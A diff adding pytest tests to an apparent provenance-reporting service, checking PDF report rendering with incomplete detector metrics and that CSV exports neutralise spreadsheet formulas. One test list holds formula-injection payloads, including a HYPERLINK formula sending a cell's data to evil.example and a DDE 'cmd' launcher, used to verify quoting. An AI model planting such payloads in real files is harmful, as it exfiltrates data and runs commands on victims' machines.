@@ -169,3 +169,74 @@ def test_per_item_forensic_report_has_its_evidence(tenant, history) -> None:
     pdf = pypdfium2.PdfDocument(b"".join(export(client, analysis=str(target.id), format="pdf").streaming_content))
     text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
     assert target.item.sha256[:12] in text and "test-brightness · brightness" in text
+
+
+TEXT_60_WORDS = " ".join(
+    "The committee met on Tuesday to review the harbour plans, and after a long argument about costs and "
+    "tides it agreed to rebuild the old sea wall before winter, while the fishermen asked for a new slipway "
+    "and the mayor promised to find the money somewhere in next year's budget without raising local taxes "
+    "again this time".split())
+
+
+def test_pdf_reports_render_when_a_text_analysis_is_in_scope(tenant, settings, tmp_path) -> None:
+    """The text detectors' model info has no test FPR; the period PDF, the per-item PDF (the console's default
+    export of a text item) and ``export_report --format pdf`` must still render, with a dash for what is missing."""
+    import pypdfium2
+
+    settings.FORENSICS_DISABLED_DETECTORS = [d for d in settings.FORENSICS_DISABLED_DETECTORS if d != "text-supervised"]
+    text = services.submit_text(system_actor(tenant, "user:mod"), TEXT_60_WORDS)
+    text.refresh_from_db()
+    info = text.detector_results.get(detector="text-supervised").model_info
+    assert info["test_auc"] and "test_fpr_at_threshold" not in info  # the shape that used to crash the PDF
+
+    client = compliance_api(tenant)
+    for params in ({}, {"analysis": str(text.id)}):
+        pdf = pypdfium2.PdfDocument(b"".join(export(client, format="pdf", **params).streaming_content))
+        page_text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
+        assert "text-supervised" in page_text and text.item.sha256[:12] in page_text
+    out = tmp_path / "r.pdf"
+    call_command("export_report", "--tenant", tenant.slug, "--start", PERIOD["start"], "--end", PERIOD["end"],
+                 "--format", "pdf", "--out", str(out))
+    assert out.read_bytes().startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("info", [{}, {"name": "x", "test_auc": 0.9}, {"threshold": None, "test_auc": "0.9"}],
+                         ids=["no-metrics", "auc-only", "empty-values"])
+def test_the_pdf_model_table_tolerates_any_detector_info(tenant, info) -> None:
+    from datetime import datetime, timezone
+
+    from provenance.pdf import render_pdf
+    from provenance.reports import build_period_report
+
+    report = build_period_report(tenant, datetime(2026, 1, 1, tzinfo=timezone.utc),
+                                 datetime(2026, 2, 1, tzinfo=timezone.utc))
+    report["model_versions"] = {"some-detector@1": info}
+    assert render_pdf(report, []).startswith(b"%PDF")
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tenant) -> None:
+    import csv
+    import io
+
+    actor = system_actor(tenant, "user:mod")
+    for i, reason in enumerate(FORMULAS):
+        record_review(actor, services.submit_chunks(actor, [jpeg_bytes(seed=200 + i)]), "escalate", reason)
+    client = compliance_api(tenant)
+    response = export(client, format="csv")
+    content = b"".join(response.streaming_content)
+    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+    assert sorted(row["review_reason"] for row in rows) == sorted("'" + reason for reason in FORMULAS)
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    assert verify_bytes(content, response["X-Signature"], [public_key(client)])  # the signed bytes are these
+    report = json.loads(b"".join(export(client, format="json").streaming_content))
+    assert sorted(row["review_reason"] for row in report["items"]) == sorted(FORMULAS)  # JSON keeps them verbatim
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
+def test_csv_safe_quotes_every_formula_start(cell: str) -> None:
+    from provenance.reports import csv_safe
+
+    assert csv_safe(cell) == "'" + cell and csv_safe("a=1") == "a=1" and csv_safe(None) is None
